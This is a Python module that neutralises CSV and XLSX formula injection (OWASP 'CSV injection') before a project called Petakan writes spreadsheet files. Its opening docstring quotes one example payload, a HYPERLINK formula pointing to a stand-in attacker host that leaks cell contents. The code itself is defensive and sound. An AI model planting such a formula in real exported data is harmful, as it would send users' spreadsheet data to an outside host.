"""No formulas out: the one place that makes text cells safe before Petakan writes a CSV or XLSX file.

A spreadsheet program reads a CSV or XLSX cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (and, in some,
tab or carriage return) as a formula: a village profile field or a programme name such as
``=HYPERLINK("http://evil.example/?leak="&A2,"klik")`` would become a live link, or worse, in every downloaded
file. The OWASP rule for CSV injection: prefix such a *text* cell with a single quote ``'``, which makes it text.

Numbers are never touched: a value that is a number (int, float, numpy number, Decimal; negative included) stays a
number, so that a spreadsheet can still sum it. The text "-5" is text and is neutralised; write -5 as a number.

Every writer uses this module:
- CSV: ``csv_writer(handle)`` instead of ``csv.writer(handle)``; ``frame_for_export(df)`` before ``df.to_csv``.
- XLSX: ``neutralise_workbook(wb)`` just before ``wb.save``; ``frame_for_export(df)`` before ``df.to_excel``.
Readers of files Petakan wrote itself (the template round trips) undo the prefix with ``restore``.

Pure: no Django; pandas and openpyxl only when their objects are passed in.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

# The characters that start a formula in Excel, LibreOffice or Google Sheets (OWASP "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def is_dangerous(text: str) -> bool:
    """True if ``text`` would be read as a formula by a spreadsheet."""
    return text.startswith(FORMULA_STARTS)


def neutralise(value: Any) -> Any:
    """``value`` made safe for a spreadsheet cell: a text starting with a formula character gets a leading ``'``;
    anything that is not text (numbers, dates, None, booleans) is returned unchanged."""
    if isinstance(value, str) and is_dangerous(value):
        return QUOTE + value
    return value


def neutralise_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise(v) for v in row]


def restore(value: Any) -> Any:
    """The inverse of ``neutralise`` for reading back a file Petakan wrote: ``'=x`` -> ``=x``. A quote followed by
    anything else is the user's own and stays."""
    if isinstance(value, str) and value.startswith(QUOTE) and is_dangerous(value[1:]):
        return value[1:]
    return value


class _SafeWriter:
    """``csv.writer`` whose rows are neutralised; the same ``writerow``/``writerows`` interface."""

    def __init__(self, handle: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(handle, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(neutralise_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle: Any, **kwargs: Any) -> _SafeWriter:
    """A CSV writer (same arguments as ``csv.writer``) that neutralises every text cell it writes."""
    return _SafeWriter(handle, **kwargs)


def frame_for_export(frame: Any) -> Any:
    """A copy of a pandas DataFrame with every text cell neutralised (column names too); numeric columns are not
    touched, so they stay numbers in the CSV or XLSX."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or str(out[column].dtype) in ("string", "str"):
            out[column] = out[column].map(neutralise)
    out.columns = [neutralise(c) if isinstance(c, str) else c for c in out.columns]
    if out.index.dtype == object:
        out.index = out.index.map(neutralise)
    return out


def neutralise_workbook(workbook: Any) -> Any:
    """Neutralise every text cell of an openpyxl workbook in place (call just before saving) and return it.

    openpyxl stores a text that starts with ``=`` as a formula (data type "f"); Petakan writes no formulas of its
    own, so every such cell came from data and becomes the quoted text.
    """
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and is_dangerous(value):
                    cell.value = QUOTE + value
                    cell.data_type = "s"
    return workbook
